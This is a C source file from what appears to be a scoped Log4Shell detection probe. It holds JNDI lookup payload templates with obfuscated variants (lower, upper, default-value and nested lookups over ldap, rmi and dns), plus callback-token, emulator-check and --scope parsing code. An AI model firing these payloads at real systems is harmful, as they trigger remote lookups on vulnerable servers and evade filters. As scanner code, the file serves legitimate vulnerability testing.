/*
 * probe_payload.c -- the probe's payloads and scope: obfuscation variants
 * that libdefuse evaluates (each built payload is checked against the
 * emulator before it is sent), the per-request token that a callback
 * carries back, and the --scope entries (CIDRs and host names).
 */
#include "probe.h"

#include <arpa/inet.h>
#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>

/* Each a shape log4j 2.0-2.14.1 evaluates to a JNDI lookup; none reads a
 * value of the target (no ${env:}, ${sys:}, ${java:}...), so nothing of the
 * target leaves it but the callback itself. */
static const probe_variant variants[] = {
    {"plain", "ldap", "${jndi:{S}://{A}/{T}}", "${jndi:ldap://CALLBACK/TOKEN}"},
    {"lower", "ldap", "${${lower:j}ndi:{S}://{A}/{T}}", "case lookup: ${lower:j}ndi"},
    {"upper", "ldap", "${${upper:j}${upper:n}di:{S}://{A}/{T}}",
     "case lookup: ${upper:j}${upper:n}di (lookup names are case-insensitive)"},
    {"default", "ldap", "${${::-j}${::-n}${::-d}${::-i}:{S}://{A}/{T}}",
     "default values: ${::-j}${::-n}${::-d}${::-i}"},
    {"nested", "ldap", "${${lower:${::-j}}${lower:${::-N}}di:${lower:L}dap://{A}/{T}}",
     "nested lookups: ${lower:${::-j}}, scheme ${lower:L}dap"},
    {"rmi", "rmi", "${jndi:{S}://{A}/{T}}", "${jndi:rmi://CALLBACK/TOKEN}"},
    {"dns", "dns", "${jndi:{S}://{A}/{T}}", "${jndi:dns://CALLBACK/TOKEN}"},
};

const probe_variant *probe_variants(size_t *n) {
    *n = sizeof variants / sizeof variants[0];
    return variants;
}

const probe_variant *probe_variant_find(const char *name) {
    for (size_t i = 0; i < sizeof variants / sizeof variants[0]; i++)
        if (!strcmp(variants[i].name, name))
            return &variants[i];
    return NULL;
}

void probe_token(uint32_t run_id, uint32_t seq, char out[PROBE_TOKEN_LEN + 1]) {
    snprintf(out, PROBE_TOKEN_LEN + 1, "dp%08x%06x", run_id, seq & 0xffffffu);
}

int probe_token_find(uint32_t run_id, const char *s, size_t len, uint32_t *seq) {
    char pre[11];
    snprintf(pre, sizeof pre, "dp%08x", run_id);
    for (size_t i = 0; i + PROBE_TOKEN_LEN <= len; i++) {
        if (strncasecmp(s + i, pre, 10) != 0)
            continue;
        uint32_t v = 0;
        size_t k;
        for (k = 10; k < PROBE_TOKEN_LEN && isxdigit((unsigned char)s[i + k]); k++)
            v = v << 4 | (uint32_t)(isdigit((unsigned char)s[i + k])
                                        ? s[i + k] - '0'
                                        : tolower((unsigned char)s[i + k]) - 'a' + 10);
        if (k == PROBE_TOKEN_LEN) {
            *seq = v;
            return 1;
        }
    }
    return 0;
}

size_t probe_payload(const probe_variant *v, const char *authority, const char *token, char *out,
                     size_t outsz) {
    size_t o = 0;
    for (const char *p = v->tmpl; *p; p++) {
        const char *sub = NULL;
        if (p[0] == '{' && p[1] && p[2] == '}') {
            sub = p[1] == 'S' ? v->scheme : p[1] == 'A' ? authority : p[1] == 'T' ? token : NULL;
        }
        if (sub) {
            size_t l = strlen(sub);
            if (o + l >= outsz)
                return 0;
            memcpy(out + o, sub, l);
            o += l;
            p += 2;
        } else {
            if (o + 1 >= outsz)
                return 0;
            out[o++] = *p;
        }
    }
    out[o] = '\0';
    return o;
}

typedef struct verify_ctx {
    const char *want;
    size_t want_len;
    int jndi, match, exfil;
} verify_ctx;

static int verify_cb(const defuse_finding *f, void *user) {
    verify_ctx *vc = user;
    if (f->kind == DEFUSE_KIND_JNDI) {
        vc->jndi++;
        if (f->callback && f->callback_len == vc->want_len &&
            !strncasecmp(f->callback, vc->want, vc->want_len))
            vc->match++;
    }
    if (f->nexfil)
        vc->exfil++;
    return 0;
}

int probe_payload_verify(defuse_scanner *sc, const char *payload, size_t len, const char *scheme,
                         const char *authority, const char *token, char *err, size_t errsz) {
    char want[PROBE_MAX_PAYLOAD];
    int n = snprintf(want, sizeof want, "%s://%s/%s", scheme, authority, token);
    if (n < 0 || (size_t)n >= sizeof want) {
        snprintf(err, errsz, "callback URL too long");
        return -1;
    }
    verify_ctx vc = {want, (size_t)n, 0, 0, 0};
    int rc = defuse_scan(sc, payload, len, 0, verify_cb, &vc);
    if (rc < 0) {
        snprintf(err, errsz, "libdefuse: %s", defuse_strerror(rc));
        return -1;
    }
    if (vc.exfil) {
        snprintf(err, errsz, "payload reads a value of the target");
        return -1;
    }
    if (vc.jndi != 1 || vc.match != 1) {
        snprintf(err, errsz, "libdefuse does not evaluate it to a JNDI lookup of %s", want);
        return -1;
    }
    return 0;
}

/* ---- scope ---------------------------------------------------------------- */

static int scope_one(probe_scope_entry *e, const char *s, size_t len) {
    char buf[300];
    if (len == 0 || len >= sizeof buf)
        return -1;
    memcpy(buf, s, len);
    buf[len] = '\0';
    memset(e, 0, sizeof *e);
    char *slash = strchr(buf, '/');
    unsigned prefix = 0;
    if (slash) {
        char *end;
        unsigned long p = strtoul(slash + 1, &end, 10);
        if (*end || end == slash + 1 || p > 128)
            return -1;
        prefix = (unsigned)p;
        *slash = '\0';
    }
    if (inet_pton(AF_INET, buf, e->addr) == 1) {
        e->family = AF_INET;
        e->prefix = slash ? prefix : 32;
        return e->prefix <= 32 ? 0 : -1;
    }
    if (inet_pton(AF_INET6, buf, e->addr) == 1) {
        e->family = AF_INET6;
        e->prefix = slash ? prefix : 128;
        return 0;
    }
    if (slash)
        return -1;
    /* a host name: letters, digits, '-', '.', an optional leading "*." */
    const char *h = buf;
    if (h[0] == '*' && h[1] == '.')
        h++;
    for (const char *p = h; *p; p++)
        if (!isalnum((unsigned char)*p) && *p != '-' && *p != '.' && *p != '_')
            return -1;
    if (!strcmp(h, ".") || !h[0])
        return -1;
    for (size_t i = 0; h[i]; i++)
        e->name[i] = (char)tolower((unsigned char)h[i]);
    return 0;
}

int probe_scope_add(probe_scope *sc, const char *s, char *err, size_t errsz) {
    while (*s) {
        size_t l = strcspn(s, ", ");
        if (l) {
            if (sc->n >= PROBE_MAX_SCOPE) {
                snprintf(err, errsz, "more than %d --scope entries", PROBE_MAX_SCOPE);
                return -1;
            }
            if (scope_one(&sc->e[sc->n], s, l) != 0) {
                snprintf(err, errsz, "--scope: '%.*s' is not a CIDR, an address or a host name",
                         (int)(l > 200 ? 200 : l), s);
                return -1;
            }
            sc->n++;
        }
        s += l;
        if (*s)
            s++;
    }
    return 0;
}

int probe_scope_name(const probe_scope *sc, const char *host) {
    size_t hl = strlen(host);
    if (hl && host[hl - 1] == '.')
        hl--;
    for (size_t i = 0; i < sc->n; i++) {
        const probe_scope_entry *e = &sc->e[i];
        if (e->family || !e->name[0])
            continue;
        if (e->name[0] == '.') { /* "*.x" / ".x": strict subdomains of x */
            size_t zl = strlen(e->name);
            if (hl > zl && !strncasecmp(host + hl - zl, e->name, zl))
                return 1;
        } else if (strlen(e->name) == hl && !strncasecmp(host, e->name, hl)) {
            return 1;
        }
    }
    return 0;
}

static int prefix_eq(const uint8_t *a, const uint8_t *b, unsigned bits) {
    size_t full = bits / 8;
    if (memcmp(a, b, full) != 0)
        return 0;
    unsigned rest = bits % 8;
    if (!rest)
        return 1;
    uint8_t mask = (uint8_t)(0xff << (8 - rest));
    return (a[full] & mask) == (b[full] & mask);
}

int probe_scope_addr(const probe_scope *sc, const struct sockaddr *sa) {
    uint8_t a[16];
    int fam;
    if (sa->sa_family == AF_INET) {
        memcpy(a, &((const struct sockaddr_in *)(const void *)sa)->sin_addr, 4);
        fam = AF_INET;
    } else if (sa->sa_family == AF_INET6) {
        const uint8_t *p = ((const struct sockaddr_in6 *)(const void *)sa)->sin6_addr.s6_addr;
        static const uint8_t mapped[12] = {0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff};
        if (!memcmp(p, mapped, 12)) {
            memcpy(a, p + 12, 4);
            fam = AF_INET;
        } else {
            memcpy(a, p, 16);
            fam = AF_INET6;
        }
    } else {
        return 0;
    }
    for (size_t i = 0; i < sc->n; i++)
        if (sc->e[i].family == fam && prefix_eq(a, sc->e[i].addr, sc->e[i].prefix))
            return 1;
    return 0;
}
